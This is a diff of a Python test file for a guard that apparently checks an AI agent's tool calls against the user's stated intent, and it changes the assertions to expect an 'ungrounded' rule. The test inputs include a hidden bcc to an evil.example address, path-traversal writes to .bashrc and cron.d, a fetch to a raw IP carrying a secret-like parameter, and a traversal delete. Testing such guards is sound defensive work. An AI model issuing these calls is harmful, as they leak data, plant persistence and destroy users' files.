@@ -61,7 +61,7 @@ def test_non_string_values_numbers_and_json_in_strings_are_judged():
     # A JSON document passed as a string is walked: its recipient is judged like any other.
     v = decide("Email bob@corp.example the notes", "send_email",
                {"to": "bob@corp.example", "options": '{"bcc": "eve@evil.example"}'})
-    assert v.action == "deny" and "eve@evil.example" in v.reason
+    assert v.rule == "ungrounded" and "eve@evil.example" in v.reason
 
 
 # -- #6 extractor blind spots ----------------------------------------------------------------------------------
@@ -97,10 +97,10 @@ def test_extractor_blind_spots_are_judged_and_file_names_in_text_are_not_hosts()
         assert decide(intent, "post_webhook", {"host": host, "payload": "x"}).action != "allow", host
     v = decide("Save my meeting notes to notes/today.md", "write_file",
                {"path": "notes/../../../home/user/.bashrc", "content": "x"})
-    assert v.action == "deny"
+    assert v.rule == "ungrounded"
     assert decide("Save my meeting notes to notes/today.md", "write_file",
                   {"path": "notes/today.md", "content": "x"}).action == "allow"
-    assert decide("Save my notes", "write_file", {"path": "C:\\Users\\me\\x.bat", "content": "x"}).action == "deny"
+    assert decide("Save my notes", "write_file", {"path": "C:\\Users\\me\\x.bat", "content": "x"}).rule == "ungrounded"
     v = decide("Read the changelog at https://docs.acme.example/changelog", "fetch",
                {"url": "http://[2001:db8::1]/c?d=sk"})
     assert v.action != "allow"
@@ -145,7 +145,7 @@ def test_folder_traversal_paths_are_resolved_before_containment():
     assert within("C:\\Data\\Reports\\q4.xlsx", "c:/data/reports/")
     intent = "Save the report under /srv/reports/"
     for path in ("/srv/reports/../../etc/cron.d/x", "/srv/reports-evil/x", "/srv/reports/./../x"):
-        assert decide(intent, "write_file", {"path": path, "content": "x"}).action == "deny", path
+        assert decide(intent, "write_file", {"path": path, "content": "x"}).rule == "ungrounded", path
     assert decide(intent, "write_file", {"path": "/srv/reports//q4/./r.md", "content": "x"}).action == "allow"
     assert decide("Delete the temp files in /tmp/build/", "delete_file",
                   {"path": "/tmp/build/../../home/user"}).action != "allow"
@@ -188,7 +188,7 @@ def test_normalisation_of_ibans_and_phone_numbers_finds_them_in_results():
     assert same_phone("+44 20 7946 0958", "020 7946 0958")
     assert not same_phone("+44 20 7946 0958", "+44 20 7946 0959")
     assert not same_phone("+1 555 0100", "+44 1 555 0100")
-    assert decide("Text Sam the address", "send_sms", {"to": "+14155550199", "text": "x"}, contact).action == "deny"
+    assert decide("Text Sam the address", "send_sms", {"to": "+14155550199", "text": "x"}, contact).rule == "ungrounded"
 
 
 # -- #10 named as a value, never as a word ----------------------------------------------------------------------
